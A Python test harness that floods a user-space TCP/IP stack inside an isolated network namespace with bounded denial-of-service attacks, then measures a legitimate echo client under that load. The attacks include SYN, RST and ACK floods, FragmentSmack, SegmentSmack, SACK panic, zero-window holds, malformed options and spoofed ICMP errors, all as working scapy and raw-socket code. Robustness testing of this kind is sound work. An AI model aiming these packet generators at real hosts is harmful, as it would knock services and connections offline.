#!/usr/bin/python3
"""Attackers and a legitimate client for attacks under load on tunstack's daemon.

Run inside the network namespace that holds the kernel side of the daemon's TUN (the stack at
10.77.0.2 and fd77::2, the kernel at 10.77.0.1, the device tunstack0):

  attacks.py attack NAME [--seconds S] [--max-packets N]   one attack; prints one JSON line
  attacks.py client [--seconds S] [--rcvbuf BYTES]          the legitimate client; one JSON line
  attacks.py list                                           the attacks' names

Every attack is bounded in time and in packets. Packets are built with scapy, once, into a pool of
variants, and sent from raw sockets (the kernel adds nothing: IP_HDRINCL), so that Python's speed
is the send loop's alone. Spoofed sources are addresses inside the namespace's own prefixes that
no one owns (10.77.0.100-199, fd77::100-199): the stack's answers to them reach the kernel side
of the TUN and go no further (the namespace does not forward). The attacks that need a real
connection of their own (tiny MSS, SACK abuse, zero window, out-of-order flood) make it by hand
from such a source and read the stack's answers with a packet socket on the TUN.

The attacks on live connections (RFC 5961 floods, ICMP errors, option junk) know the legitimate
client's addresses and ports (ss shows them), never its sequence numbers: they draw those at
random, as a blind attacker must.
"""

import argparse
import hashlib
import json
import os
import random
import select
import socket
import struct
import subprocess
import sys
import threading
import time

STACK4, STACK6, KERNEL4, KERNEL6, DEVICE = "10.77.0.2", "fd77::2", "10.77.0.1", "fd77::1", "tunstack0"
ECHO, DISCARD, CHARGEN = 7, 9, 19
ETH_P_ALL, PACKET_OUTGOING, SOL_PACKET, PACKET_VNET_HDR, VNET_HDR_LENGTH = 0x0003, 4, 263, 15, 10


def scapy():
    # Imported on first use: the client needs no scapy, and the import takes a second.
    import scapy.all as s
    return s


class RawSender:
    """Sends whole IP packets (bytes) from raw sockets, counting them."""

    def __init__(self):
        self.v4 = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        self.v6 = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
        self.sent = 0

    def send(self, packet):
        try:
            if packet[0] >> 4 == 4:
                self.v4.sendto(packet, (socket.inet_ntop(socket.AF_INET, packet[16:20]), 0))
            else:
                self.v6.sendto(packet, (socket.inet_ntop(socket.AF_INET6, packet[24:40]), 0, 0, 0))
            self.sent += 1
        except (BlockingIOError, OSError):
            pass  # a full device queue drops as a real link would; not counted as sent


class Budget:
    """The bound of one attack: its seconds and its packets."""

    def __init__(self, seconds, packets, wait=False):
        self.wait = wait
        self.start = time.monotonic()
        self.deadline = self.start + seconds
        self.packets = packets

    def left(self, sender):
        return sender.sent < self.packets and time.monotonic() < self.deadline

    def restart(self):
        """Starts the clock again once the packets are built: building is not attacking. With
        --wait, first says "ready" and waits for a line on standard input (the runner's go)."""
        if self.wait:
            print("ready", flush=True)
            sys.stdin.readline()
            self.wait = False
        seconds = self.deadline - self.start
        self.start = time.monotonic()
        self.deadline = self.start + seconds

    def elapsed(self):
        return time.monotonic() - self.start


def flood(pool, sender, budget):
    """Sends the pool's packets round and round until the budget ends."""
    n = len(pool)
    i = 0
    budget.restart()
    while budget.left(sender):
        for _ in range(64):
            sender.send(pool[i % n])
            i += 1


def live_connections(port=ECHO):
    """The legitimate client's connections to the stack's PORT: (kernel address, kernel port)."""
    out = subprocess.run(["ss", "-tnH", "state", "established", f"( dport = :{port} )"],
                         capture_output=True, text=True, check=True).stdout
    found = []
    for line in out.splitlines():
        fields = line.split()
        local, peer = fields[-2], fields[-1]
        host, _, lport = local.rpartition(":")
        if peer.rpartition(":")[0].strip("[]") in (STACK4, STACK6):
            found.append((host.strip("[]"), int(lport)))
    return found


def checksum(data):
    if len(data) % 2:
        data += b"\x00"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


TCP_FLAGS = {"F": 0x01, "S": 0x02, "R": 0x04, "P": 0x08, "A": 0x10}


def ipv4_tcp(source, sport, destination, dport, flags, seq, ack, window, options=b"", payload=b""):
    """An IPv4 TCP segment as bytes, checksums included: scapy's result, fast enough to answer every segment."""
    options += b"\x00" * (-len(options) % 4)
    src, dst = socket.inet_aton(source), socket.inet_aton(destination)
    bits = sum(TCP_FLAGS[f] for f in flags)
    header = struct.pack("!HHIIBBHHH", sport, dport, seq & 0xFFFFFFFF, ack & 0xFFFFFFFF, (5 + len(options) // 4) << 4, bits, window, 0, 0) + options
    segment = header + payload
    pseudo = src + dst + struct.pack("!BBH", 0, 6, len(segment))
    segment = segment[:16] + struct.pack("!H", checksum(pseudo + segment)) + segment[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(segment), random.getrandbits(16), 0, 64, 6, 0, src, dst)
    return ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:] + segment


def sack_option(blocks):
    return b"\x01\x01" + bytes([5, 2 + 8 * len(blocks)]) + b"".join(struct.pack("!II", l, r) for l, r in blocks)


def rand32():
    return random.getrandbits(32)


# ---- the attacks ------------------------------------------------------------------------------

def attack_syn_flood(args, sender, budget):
    """SYN flood from random sources (hping3): the listener must turn to SYN cookies."""
    budget.restart()
    command = ["timeout", "-s", "INT", str(args.seconds), "hping3", "-q", "-S", "-p", str(ECHO),
               "--rand-source", "-c", str(args.max_packets), "-i", "u1", STACK4]
    if args.max_packets > 100000:
        command.insert(-1, "--flood")  # as fast as it goes, bounded by the time (--flood ignores -c)
    result = subprocess.run(command, capture_output=True, text=True)
    for line in (result.stdout + result.stderr).splitlines():
        if "packets transmitted" in line:
            sender.sent = int(line.split()[0])
    return {}


def tcp_to_stack(s, kport, flags, seq, ack, payload=b"", options=None, window=65535, kernel=KERNEL4):
    segment = s.TCP(sport=kport, dport=ECHO, flags=flags, seq=seq, ack=ack, window=window, options=options or [])
    return bytes(s.IP(src=kernel, dst=STACK4) / segment / payload) if payload else bytes(s.IP(src=kernel, dst=STACK4) / segment)


def blind_pool(flags, payload=b"", count=512):
    """Segments on the live connections with random sequence and acknowledgment numbers."""
    s = scapy()
    targets = [t for t in live_connections() if ":" not in t[0]]
    if not targets:
        raise SystemExit("no live connection to port 7: start the client first")
    return [tcp_to_stack(s, random.choice(targets)[1], flags, rand32(), rand32(), payload) for _ in range(count)]


def attack_ack_flood(args, sender, budget):
    """Pure ACKs with random numbers on the live connections (RFC 5961 5)."""
    flood(blind_pool("A"), sender, budget)
    return {}


def attack_rst_flood(args, sender, budget):
    """Resets with random sequence numbers on the live connections (RFC 5961 3)."""
    flood(blind_pool("R"), sender, budget)
    return {}


def attack_data_flood(args, sender, budget):
    """Data with random sequence and acknowledgment numbers on the live connections (RFC 5961 5)."""
    flood(blind_pool("PA", b"X" * 512), sender, budget)
    return {}


def attack_fragment_flood(args, sender, budget):
    """First fragments of UDP datagrams that never complete, each with its own identification."""
    s = scapy()
    pool = []
    for i in range(1536):  # more identifications than reassembly keeps datagrams (1,024)
        datagram = s.IP(src=KERNEL4, dst=STACK4, id=i, flags="MF", frag=0, proto=17) / (b"\x00\x09\x00\x09\x05\xdc\x00\x00" + b"F" * 1192)
        pool.append(bytes(datagram))
    flood(pool, sender, budget)
    return {}


def attack_fragment_overlap(args, sender, budget):
    """FragmentSmack: many small overlapping fragments per datagram, never a complete one."""
    s = scapy()
    pool = []
    for i in range(128):
        ident = 20000 + i
        for j in range(8):
            offset = random.randrange(0, 64)  # in 8-byte units: pieces that overlap each other
            pool.append(bytes(s.IP(src=KERNEL4, dst=STACK4, id=ident, flags="MF", frag=offset, proto=17) / (b"O" * 24)))
    flood(pool, sender, budget)
    return {}


def junk_options():
    """An options area that is wrong in one of the ways parsers trip on."""
    kind = random.choice([0, 1, 2, 3, 4, 5, 8, 30, 34, 253, 254, 255])
    shape = random.randrange(5)
    if shape == 0:
        body = bytes([kind, 0])  # length zero: an endless loop for a careless parser
    elif shape == 1:
        body = bytes([kind, 1])  # length one
    elif shape == 2:
        body = bytes([kind, 40])  # longer than the options area
    elif shape == 3:
        body = bytes([5, 6, 1, 2, 3, 4])  # SACK with a block cut in half
    else:
        body = bytes(random.getrandbits(8) for _ in range(random.randrange(1, 40)))
    body = body[:40]
    return body + b"\x00" * (-len(body) % 4)


def attack_option_junk(args, sender, budget):
    """SYNs to the listener and segments on the live connections with malformed TCP options."""
    s = scapy()
    targets = [t for t in live_connections() if ":" not in t[0]]
    pool = []
    for i in range(512):
        options = junk_options()
        if i % 2 == 0 or not targets:
            header = s.TCP(sport=random.randrange(1024, 65535), dport=ECHO, flags="S", seq=rand32(), dataofs=5 + len(options) // 4)
            packet = s.IP(src=f"10.77.0.{100 + i % 100}", dst=STACK4) / header / options
        else:
            header = s.TCP(sport=random.choice(targets)[1], dport=ECHO, flags="A", seq=rand32(), ack=rand32(), dataofs=5 + len(options) // 4)
            packet = s.IP(src=KERNEL4, dst=STACK4) / header / options
        pool.append(bytes(packet))
    flood(pool, sender, budget)
    return {}


def attack_icmp_errors(args, sender, budget):
    """ICMP errors quoting the live connections with random sequence numbers (RFC 5927)."""
    s = scapy()
    targets = [t for t in live_connections() if ":" not in t[0]]
    if not targets:
        raise SystemExit("no live connection to port 7: start the client first")
    pool = []
    for i in range(512):
        quoted = bytes(s.IP(src=STACK4, dst=KERNEL4) / s.TCP(sport=ECHO, dport=random.choice(targets)[1], flags="A", seq=rand32(), ack=rand32()))[:28]
        kind = i % 4
        if kind == 0:
            error = s.ICMP(type=3, code=4, nexthopmtu=random.choice([68, 296, 552, 576]))  # fragmentation needed
        elif kind == 1:
            error = s.ICMP(type=3, code=1)  # host unreachable
        elif kind == 2:
            error = s.ICMP(type=3, code=3)  # port unreachable
        else:
            error = s.ICMP(type=11, code=0)  # time exceeded
        pool.append(bytes(s.IP(src=KERNEL4, dst=STACK4) / error / quoted))
    flood(pool, sender, budget)
    return {}


def destination_options(count, last):
    """COUNT Destination Options headers of 8 bytes (PadN), the last one naming LAST as next."""
    return b"".join(bytes([60 if i < count - 1 else last, 0, 1, 4, 0, 0, 0, 0]) for i in range(count))


def attack_ipv6_header_chains(args, sender, budget):
    """IPv6 packets with long extension-header chains, and first fragments whose chain is cut (RFC 7112)."""
    s = scapy()
    pool = []
    for i in range(512):
        src = f"fd77::{100 + i % 100:x}"
        syn = bytes(s.IPv6(src=src, dst=STACK6) / s.TCP(sport=random.randrange(1024, 65535), dport=ECHO, flags="S", seq=rand32()))[40:]
        kind = i % 3
        if kind == 0:
            packet = s.IPv6(src=src, dst=STACK6, nh=60) / s.Raw(destination_options(random.randrange(10, 60), 6) + syn)
        elif kind == 1:
            # A first fragment that carries only part of a 31-header chain: the TCP header is in a later one.
            chain = destination_options(31, 6) + syn
            packet = s.IPv6(src=src, dst=STACK6, nh=44) / s.IPv6ExtHdrFragment(nh=60, m=1, offset=0, id=i) / s.Raw(chain[:64])
        else:
            hop_by_hop = bytes([0, 0, 1, 4, 0, 0, 0, 0])  # hop-by-hop after another header: not allowed
            packet = s.IPv6(src=src, dst=STACK6, nh=60) / s.Raw(bytes([0, 0, 1, 4, 0, 0, 0, 0]) + bytes([6]) + hop_by_hop[1:] + syn)
        pool.append(bytes(packet))
    flood(pool, sender, budget)
    return {}


class HandmadeConnections:
    """TCP connections made by hand from spoofed sources, the stack's answers read on the TUN."""

    def __init__(self, sender, port, mss, window, sack=False):
        self.sender, self.port, self.mss, self.window, self.sack = sender, port, mss, window, sack
        self.receiver = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))  # a TUN has no link header
        # With a virtio-net header before each packet, a TSO super-segment shows its segment size.
        self.receiver.setsockopt(SOL_PACKET, PACKET_VNET_HDR, 1)
        self.receiver.bind((DEVICE, 0))
        self.receiver.setblocking(False)
        self.connections = {}  # (source, sport) -> {"iss", "rcv_nxt", "snd_una", "snd_nxt"}

    def segment(self, key, flags, seq, ack, payload=b"", window=None, options=b""):
        return ipv4_tcp(key[0], key[1], STACK4, self.port, flags, seq, ack, self.window if window is None else window, options, payload)

    def open(self, count, on_segment):
        base = random.randrange(10000, 60000)  # a run of its own: no tuple of an earlier run
        options = struct.pack("!BBH", 2, 4, self.mss) + (b"\x01\x01\x04\x02" if self.sack else b"")
        for i in range(count):
            key = (f"10.77.0.{100 + i % 100}", base + i)
            iss = rand32()
            self.connections[key] = {"iss": iss, "rcv_nxt": None, "snd_nxt": (iss + 1) & 0xFFFFFFFF, "highest": None}
        # SYNs until each is answered, again every 300 ms (a busy TUN queue may drop some), for at most 5 s.
        until = time.monotonic() + 5
        while time.monotonic() < until:
            waiting = [(k, c) for k, c in self.connections.items() if c["rcv_nxt"] is None]
            if not waiting:
                break
            for key, c in waiting:
                self.sender.send(self.segment(key, "S", c["iss"], 0, options=options))
            again = time.monotonic() + 0.3
            while time.monotonic() < again:
                self.poll(0.05, on_segment)
        return sum(1 for c in self.connections.values() if c["rcv_nxt"] is not None)

    def reset_all(self):
        """Ends every connection with a reset at the stack's RCV.NXT, so that none outlives the attack."""
        for key, c in self.connections.items():
            if c["rcv_nxt"] is not None:
                self.sender.send(self.segment(key, "R", c["snd_nxt"], 0))

    def poll(self, timeout, on_segment):
        """Reads what the stack sent to our connections; calls on_segment for each after the handshake."""
        readable, _, _ = select.select([self.receiver], [], [], timeout)
        if not readable:
            return
        for _ in range(256):
            try:
                packet, address = self.receiver.recvfrom(70000)
            except BlockingIOError:
                return
            gso_type, gso_size = packet[1], struct.unpack("<H", packet[4:6])[0]
            packet = packet[VNET_HDR_LENGTH:]
            if address[2] == PACKET_OUTGOING or len(packet) < 40 or packet[0] >> 4 != 4 or packet[9] != 6:
                continue
            ihl = (packet[0] & 15) * 4
            source = socket.inet_ntoa(packet[12:16])
            destination = socket.inet_ntoa(packet[16:20])
            sport, dport, seq, ack = struct.unpack("!HHII", packet[ihl:ihl + 12])
            if source != STACK4 or sport != self.port:
                continue
            key = (destination, dport)  # our side: the spoofed source the stack answers
            c = self.connections.get(key)
            if c is None:
                continue
            offset = (packet[ihl + 12] >> 4) * 4
            flags = packet[ihl + 13]
            total = struct.unpack("!H", packet[2:4])[0]
            payload = packet[ihl + offset:total]
            if flags & 0x04:  # reset: the connection is gone
                del self.connections[key]
                continue
            if flags & 0x02:  # SYN-ACK: complete the handshake
                c["rcv_nxt"] = (seq + 1) & 0xFFFFFFFF
                self.sender.send(self.segment(key, "A", c["snd_nxt"], c["rcv_nxt"]))
                continue
            if c["rcv_nxt"] is None:
                continue
            if payload:  # the largest segment the stack sent: the MSS it uses
                segment = gso_size if gso_type else len(payload)
                c["largest_segment"] = max(c.get("largest_segment", 0), segment)
            on_segment(key, c, seq, ack, flags, payload)


def attack_tiny_mss(args, sender, budget):
    """Connections to chargen that announce an MSS of 1 and acknowledge every byte (CVE-2019-11479)."""
    conns = HandmadeConnections(sender, CHARGEN, mss=1, window=4096)

    def acknowledge(key, c, seq, ack, flags, payload):
        end = (seq + len(payload)) & 0xFFFFFFFF
        if ((end - c["rcv_nxt"]) & 0xFFFFFFFF) < 0x80000000:
            c["rcv_nxt"] = end
        sender.send(conns.segment(key, "A", c["snd_nxt"], c["rcv_nxt"]))

    budget.restart()
    opened = conns.open(32, acknowledge)
    while budget.left(sender):
        conns.poll(0.05, acknowledge)
    conns.reset_all()
    sizes = [c["largest_segment"] for c in conns.connections.values() if "largest_segment" in c]
    return {"connections": opened, "largest_segment": max(sizes, default=None), "smallest_largest_segment": min(sizes, default=None)}


def attack_sack_abuse(args, sender, budget):
    """SACK panic / SACK slowness: tiny MSS, then ACKs that never move and SACK scattered pieces."""
    conns = HandmadeConnections(sender, CHARGEN, mss=48, window=4096, sack=True)

    def scatter(key, c, seq, ack, flags, payload):
        end = (seq + len(payload)) & 0xFFFFFFFF
        if c["highest"] is None or ((end - c["highest"]) & 0xFFFFFFFF) < 0x80000000:
            c["highest"] = end
        span = (c["highest"] - c["rcv_nxt"]) & 0xFFFFFFFF
        if span > 2400 and span < 0x80000000:  # let the window move, a hole always left at its start
            c["rcv_nxt"] = (c["highest"] - 2400) & 0xFFFFFFFF
            span = 2400
        if span < 200 or span >= 0x80000000:
            sender.send(conns.segment(key, "A", c["snd_nxt"], c["rcv_nxt"]))
            return
        blocks = []
        for _ in range(3):
            left = (c["rcv_nxt"] + 48 + random.randrange(0, span - 96) // 48 * 48) & 0xFFFFFFFF
            blocks.append((left, (left + random.choice([1, 48, 96])) & 0xFFFFFFFF))
        sender.send(conns.segment(key, "A", c["snd_nxt"], c["rcv_nxt"], options=sack_option(blocks)))

    budget.restart()
    opened = conns.open(16, scatter)
    while budget.left(sender):
        conns.poll(0.05, scatter)
    conns.reset_all()
    return {"connections": opened}


def attack_zero_window(args, sender, budget):
    """Connections to chargen that close their window at once and hold it closed, answering every probe."""
    conns = HandmadeConnections(sender, CHARGEN, mss=1460, window=0)

    probes = [0]

    def hold(key, c, seq, ack, flags, payload):
        probes[0] += 1  # into a closed window the stack sends nothing but probes (Linux's: no data, SND.UNA - 1)
        sender.send(conns.segment(key, "A", c["snd_nxt"], c["rcv_nxt"], window=0))

    budget.restart()
    opened = conns.open(64, hold)
    # Held at least until the first probe (one retransmission timeout, 1 s before an RTT sample), at most 5 s more.
    longest = budget.deadline + 5
    while budget.left(sender) or (opened and not probes[0] and time.monotonic() < longest):
        conns.poll(0.05, hold)
    conns.reset_all()
    return {"connections": opened, "probes": probes[0]}


def attack_out_of_order(args, sender, budget):
    """SegmentSmack: small segments all over the window of connections to discard, never the next byte."""
    conns = HandmadeConnections(sender, DISCARD, mss=1460, window=65535)
    budget.restart()
    opened = conns.open(8, lambda *segment: None)
    keys = [k for k, c in conns.connections.items() if c["rcv_nxt"] is not None]
    if not keys:
        return {"connections": 0}
    pool = []
    for i in range(4096):
        key = keys[i % len(keys)]
        c = conns.connections[key]
        seq = (c["snd_nxt"] + 1 + random.randrange(0, 8000)) & 0xFFFFFFFF  # well inside any window the stack offers
        pool.append(conns.segment(key, "A", seq, c["rcv_nxt"], payload=b"s" * random.choice([1, 8, 16])))
    flood(pool, sender, budget)
    conns.reset_all()
    return {"connections": opened}


ATTACKS = {
    "syn-flood": attack_syn_flood,
    "ack-flood": attack_ack_flood,
    "rst-flood": attack_rst_flood,
    "data-flood": attack_data_flood,
    "fragment-flood": attack_fragment_flood,
    "fragment-overlap": attack_fragment_overlap,
    "tiny-mss": attack_tiny_mss,
    "sack-abuse": attack_sack_abuse,
    "option-junk": attack_option_junk,
    "icmp-errors": attack_icmp_errors,
    "ipv6-header-chains": attack_ipv6_header_chains,
    "zero-window": attack_zero_window,
    "out-of-order": attack_out_of_order,
}


# ---- the legitimate client ----------------------------------------------------------------------

def pattern(offset, length):
    """The bytes of the bulk stream at OFFSET: a function of the offset, so any fault shows."""
    block = hashlib.sha256(str(offset // 4096).encode()).digest() * 128
    start = offset % 4096
    out = bytearray()
    while len(out) < length:
        out += block[start:]
        start = 0
        offset_block = (offset + len(out)) // 4096
        block = hashlib.sha256(str(offset_block).encode()).digest() * 128
    return bytes(out[:length])


def connect(rcvbuf):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    if rcvbuf:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, rcvbuf)
    s.settimeout(30)
    s.connect((STACK4, ECHO))
    return s


def client(args):
    """A bulk echo stream and a request/response loop side by side, each checked byte for byte."""
    result = {"bulk_bytes": 0, "rr_count": 0, "exact": True, "errors": []}
    latencies = []
    progress = []  # (time, bulk bytes echoed so far), at most every 20 ms
    answers = []  # (time, latency) of every request
    chunk = 16384

    def bulk(s):
        try:
            offset = 0
            while time.monotonic() < stop:
                data = pattern(offset, chunk)
                s.sendall(data)
                got = bytearray()
                while len(got) < chunk:
                    piece = s.recv(chunk - len(got))
                    if not piece:
                        raise ConnectionError("end of stream from the echo service")
                    got += piece
                if bytes(got) != data:
                    result["exact"] = False
                    result["errors"].append(f"bulk: wrong bytes at offset {offset}")
                    break
                offset += chunk
                now = time.monotonic()
                if not progress or now - progress[-1][0] >= 0.02:
                    progress.append((round(now, 4), offset))
            s.close()
            result["bulk_bytes"] = offset
        except Exception as e:  # the attack broke the connection: the result says so
            result["exact"] = False
            result["errors"].append(f"bulk: {e!r}")

    def request_response(s):
        try:
            s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            n = 0
            while time.monotonic() < stop:
                request = struct.pack("!Q", n) * 8
                began = time.monotonic()
                s.sendall(request)
                got = b""
                while len(got) < len(request):
                    piece = s.recv(len(request) - len(got))
                    if not piece:
                        raise ConnectionError("end of stream from the echo service")
                    got += piece
                latencies.append(time.monotonic() - began)
                answers.append((round(began, 4), round(latencies[-1], 6)))
                if got != request:
                    result["exact"] = False
                    result["errors"].append(f"rr: wrong answer to request {n}")
                    break
                n += 1
                time.sleep(0.002)
            s.close()
            result["rr_count"] = n
        except Exception as e:
            result["exact"] = False
            result["errors"].append(f"rr: {e!r}")

    sockets = [connect(args.rcvbuf), connect(args.rcvbuf)]
    if args.wait:
        print("connected", flush=True)
        sys.stdin.readline()
    stop = time.monotonic() + args.seconds
    threads = [threading.Thread(target=bulk, args=(sockets[0],)), threading.Thread(target=request_response, args=(sockets[1],))]
    began = time.monotonic()
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    elapsed = time.monotonic() - began
    latencies.sort()
    result["seconds"] = round(elapsed, 3)
    result["bulk_mbit_s"] = round(result["bulk_bytes"] * 8 / elapsed / 1e6, 2)
    result["rr_p50_ms"] = round(latencies[len(latencies) // 2] * 1000, 3) if latencies else None
    result["rr_p99_ms"] = round(latencies[min(len(latencies) - 1, len(latencies) * 99 // 100)] * 1000, 3) if latencies else None
    if args.samples:
        result["progress"] = progress
        result["answers"] = answers
    print(json.dumps(result), flush=True)
    return 0 if result["exact"] else 1


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    sub = parser.add_subparsers(dest="command", required=True)
    a = sub.add_parser("attack")
    a.add_argument("name", choices=sorted(ATTACKS))
    a.add_argument("--seconds", type=float, default=4)
    a.add_argument("--max-packets", type=int, default=2_000_000)
    a.add_argument("--seed", type=int, default=None, help="for the random numbers (default: a new seed each run)")
    a.add_argument("--wait", action="store_true", help='say "ready" once the packets are built and wait for a line on standard input')
    c = sub.add_parser("client")
    c.add_argument("--seconds", type=float, default=4)
    c.add_argument("--rcvbuf", type=int, default=0)
    c.add_argument("--wait", action="store_true", help='say "connected" once both connections are open and wait for a line on standard input')
    c.add_argument("--samples", action="store_true", help="add the bulk progress and every answer's latency, with times")
    sub.add_parser("list")
    args = parser.parse_args()
    if args.command == "list":
        print("\n".join(ATTACKS))
        return 0
    if args.command == "client":
        return client(args)
    random.seed(args.seed)
    sender = RawSender()
    budget = Budget(args.seconds, args.max_packets, args.wait)
    extra = ATTACKS[args.name](args, sender, budget) or {}
    elapsed = budget.elapsed()
    report = {"attack": args.name, "packets": sender.sent, "seconds": round(elapsed, 3),
              "start": round(budget.start, 4), "end": round(budget.start + elapsed, 4),
              "packets_per_second": round(sender.sent / elapsed) if elapsed > 0 else 0}
    report.update(extra)
    print(json.dumps(report), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
